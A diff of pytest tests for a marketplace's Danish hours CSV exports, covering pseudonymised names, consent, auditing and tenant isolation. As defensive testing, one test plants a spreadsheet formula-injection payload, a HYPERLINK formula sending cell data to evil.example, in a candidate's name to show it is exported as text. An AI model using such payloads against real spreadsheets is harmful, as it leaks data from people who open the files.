@@ -22,23 +22,19 @@ from marketplace.models import (
     Role,
 )
 from marketplace.privacy import disclosure
-from tests.factories import MONDAY, confirm, ladder_job, paid_placement
+from tests.factories import MONDAY, confirm
 from tests.html_forms import error_ids
 
 START, END = MONDAY - timedelta(days=7), MONDAY + timedelta(days=6)
 
 
 @pytest.fixture
-def job(make_job, employer):
-    return ladder_job(make_job, employer)
-
-
-@pytest.fixture
-def placement(job, consultant, employer):
-    found = paid_placement(job, consultant, employer)
-    confirm(found, employer)  # Tuesday 3, Thursday 3
+def confirmed_placement(placement, employer):
+    """The shared placement (paid hours since MONDAY) with MONDAY's week confirmed as planned
+    (Tuesday 3, Thursday 3), committed."""
+    confirm(placement, employer)
     db.session.commit()
-    return found
+    return placement
 
 
 def rows_of(response) -> list[list[str]]:
@@ -54,30 +50,36 @@ def company_export(client, start=START, end=END):
     return client.get(f"/company/hours/export?start={start.isoformat()}&end={end.isoformat()}")
 
 
-def test_the_company_export_is_for_danish_excel_and_streamed(client, login, employer, placement):
+def test_the_company_export_is_for_danish_excel_and_streamed(
+    client, login, employer, confirmed_placement
+):
     login(employer)
     response = company_export(client)
     assert response.is_streamed
     rows = rows_of(response)
     assert rows[0] == ["Dato", "Person", "Slags", "Timer", "Timeløn"]
-    pseudonym = disclosure.pseudonym(placement.candidate_id, placement.company_id)
-    wage = format(Decimal(placement.job.hourly_wage).normalize(), "f").replace(".", ",")
+    pseudonym = disclosure.pseudonym(
+        confirmed_placement.candidate_id, confirmed_placement.company_id
+    )
+    wage = format(Decimal(confirmed_placement.job.hourly_wage).normalize(), "f").replace(".", ",")
     assert rows[1:] == [
         [(MONDAY + timedelta(days=1)).isoformat(), pseudonym, "Lønnede timer", "3", wage],
         [(MONDAY + timedelta(days=3)).isoformat(), pseudonym, "Lønnede timer", "3", wage],
     ]
 
 
-def test_a_corrected_day_is_exported_once_with_its_new_figure(client, login, employer, placement):
+def test_a_corrected_day_is_exported_once_with_its_new_figure(
+    client, login, employer, confirmed_placement
+):
     tuesday = MONDAY + timedelta(days=1)
     hours.correct(
-        placement,
+        confirmed_placement,
         employer,
         tuesday,
         HourKind.PAID,
         Decimal("2.5"),
         "Gik tidligt",
-        versions_of(placement.id),
+        versions_of(confirmed_placement.id),
     )
     db.session.commit()
     login(employer)
@@ -89,9 +91,9 @@ def test_a_corrected_day_is_exported_once_with_its_new_figure(client, login, emp
 
 
 def test_the_name_shows_only_with_consent_and_is_audited(
-    client, login, employer, consultant, placement
+    client, login, employer, consultant, confirmed_placement
 ):
-    disclosure.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
+    disclosure.record_consent(confirmed_placement.proposal, consultant, ConsentMethod.IN_PERSON)
     db.session.commit()
     views = db.session.scalar(select(func.count(AccessLogEntry.id)))
     login(employer)
@@ -102,7 +104,7 @@ def test_the_name_shows_only_with_consent_and_is_audited(
 
 
 def test_the_period_filters_and_other_companies_see_nothing(
-    app, client, login, employer, placement, make_company, make_user
+    app, client, login, employer, confirmed_placement, make_company, make_user
 ):
     login(employer)
     assert rows_of(company_export(client, START, MONDAY)) == [
@@ -132,7 +134,7 @@ def test_a_bad_period_is_refused_beside_the_field(client, login, employer, query
 
 
 def test_the_jobcentre_export_has_case_reference_and_cvr(
-    app, client, login, consultant, placement, make_jobcentre, make_user
+    app, client, login, consultant, confirmed_placement, make_jobcentre, make_user
 ):
     login(consultant)
     response = client.get(
@@ -141,7 +143,9 @@ def test_the_jobcentre_export_has_case_reference_and_cvr(
     rows = rows_of(response)
     assert rows[0] == ["Sagsnummer", "Dato", "Slags", "Timer", "Virksomhedens CVR"]
     assert len(rows) == 3
-    assert all(r[4] == placement.company.cvr and r[2] == "Lønnede timer" for r in rows[1:])
+    assert all(
+        r[4] == confirmed_placement.company.cvr and r[2] == "Lønnede timer" for r in rows[1:]
+    )
     other = app.test_client()
     login(make_user(make_jobcentre(municipality_code=657), role=Role.CONSULTANT), via=other)
     assert (
@@ -160,11 +164,11 @@ def test_the_jobcentre_export_has_case_reference_and_cvr(
 
 
 def test_a_name_typed_as_a_formula_reaches_payroll_as_text(
-    client, login, employer, consultant, placement
+    client, login, employer, consultant, confirmed_placement
 ):
     formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'
-    db.session.get(CandidateIdentity, placement.candidate_id).full_name = formula
-    disclosure.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
+    db.session.get(CandidateIdentity, confirmed_placement.candidate_id).full_name = formula
+    disclosure.record_consent(confirmed_placement.proposal, consultant, ConsentMethod.IN_PERSON)
     db.session.commit()
     login(employer)
     rows = rows_of(company_export(client))
@@ -174,10 +178,10 @@ def test_a_name_typed_as_a_formula_reaches_payroll_as_text(
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_a_case_reference_that_begins_a_formula_reaches_the_jobcentre_as_text(
-    client, login, consultant, placement, start
+    client, login, consultant, confirmed_placement, start
 ):
     reference = f"{start}45-2026"
-    db.session.get(CandidateIdentity, placement.candidate_id).case_reference = reference
+    db.session.get(CandidateIdentity, confirmed_placement.candidate_id).case_reference = reference
     db.session.commit()
     login(consultant)
     rows = rows_of(
